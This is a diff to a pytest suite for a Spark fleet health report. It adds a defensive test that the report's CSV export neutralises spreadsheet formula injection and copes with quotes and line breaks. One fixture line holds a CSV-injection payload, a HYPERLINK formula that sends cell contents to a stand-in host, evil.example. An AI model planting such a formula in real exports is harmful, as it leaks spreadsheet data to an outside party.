@@ -21,6 +21,7 @@ if shutil.which("java") is None and not os.environ.get("JAVA_HOME"):
     pytest.skip("Spark needs a Java runtime", allow_module_level=True)
 
 from cairn.central import spark as jobs  # noqa: E402
+from cairn.central.fleet import COLUMNS  # noqa: E402
 from cairn.gateway.core.config import HEALTH_TOPIC  # noqa: E402
 from cairn.gateway.core.retention import OWN_AUTHID, OWN_AUTHROLE  # noqa: E402
 from tests.pure.test_fleet import record  # noqa: E402
@@ -29,6 +30,7 @@ from tests.spark.test_spark import T0, T0_MS, event, events, land, utc  # noqa: 
 pytestmark = pytest.mark.spark
 
 NOW = T0 + timedelta(hours=1)  # the report's now: every gateway sent within the hour
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"0.9.0")'
 
 
 def health(seq: int, fields: dict[str, Any] | str, authid: str = OWN_AUTHID,
@@ -49,6 +51,8 @@ GATEWAYS = {
     "healthy": [health(11, record(card__life_years=0.2)), health(12, record())],
     "newer": [health(11, record(schema=2, radio={"rssi": -71, "band": 20}))],
     "malformed": [health(11, record(card="worn", clock__synchronized="yes"))],
+    # text a spreadsheet would run, and quotes, commas and a line break for the CSV
+    "formula": [health(11, record(version=FORMULA, slot='A "left", 2\nB'))],
     # only the router may publish health records: a client's is not the gateway's health
     "impostor": [health(11, record(), authid="dev"), health(12, record(), authid="dev")],
 }
@@ -138,10 +142,10 @@ def test_the_fleet_report_is_in_urgency_order_as_parquet_and_csv(spark, reported
     out, _, lines = reported
     order = [r.gateway_id for r in sorted(fleet.values(), key=lambda r: r.urgency)]
     assert order == ["card", "damaged", "rolled-back", "unsynced", "silent", "impostor",
-                     "malformed", "healthy", "newer"]
+                     "malformed", "formula", "healthy", "newer"]
     with (out / "fleet.csv").open() as f:
         assert [r["gateway_id"] for r in csv.DictReader(f)] == order
-    assert "fleet: 7 of 9 gateways need attention" in lines[-1]
+    assert "fleet: 7 of 10 gateways need attention" in lines[-1]
     assert "\n  1. card: card life 0.4 years" in lines[-1]
 
 
@@ -172,3 +176,32 @@ def test_the_page_has_the_fleet_table_in_urgency_order(reported, fleet):
     assert table.names == [r.gateway_id for r in sorted(fleet.values(),
                                                         key=lambda r: r.urgency)]
     assert 'aria-label="flag card_worn"' in page and "<script" not in page
+
+
+def csv_rows(out) -> tuple[list[str], list[list[str]]]:
+    """fleet.csv as an RFC 4180 reader (Python's csv, as Excel and LibreOffice) reads it."""
+    with (out / "fleet.csv").open(newline="") as f:
+        header, *rows = list(csv.reader(f))
+    return header, rows
+
+
+def test_fleet_csv_reads_back_with_one_cell_per_column_and_the_reports_text(reported, fleet):
+    out, _, _ = reported
+    header, rows = csv_rows(out)
+    assert {len(r) for r in rows} == {len(header)}
+    texts = [name for name, kind in (c.split() for c in COLUMNS.split(",")) if kind == "string"]
+    for cells in rows:
+        row = dict(zip(header, cells, strict=True))
+        report = fleet[row["gateway_id"]]
+        for column in texts:
+            value = getattr(report, column)
+            expected = "'" + value if value and value[0] in "=+-@\t\r" else value or ""
+            assert row[column] == expected, (row["gateway_id"], column)
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(reported, fleet):
+    out, _, _ = reported
+    header, rows = csv_rows(out)
+    formula = next(dict(zip(header, r, strict=True)) for r in rows if r[1] == "formula")
+    assert formula["version"] == "'" + FORMULA and fleet["formula"].version == FORMULA
+    assert formula["slot"] == 'A "left", 2\nB'
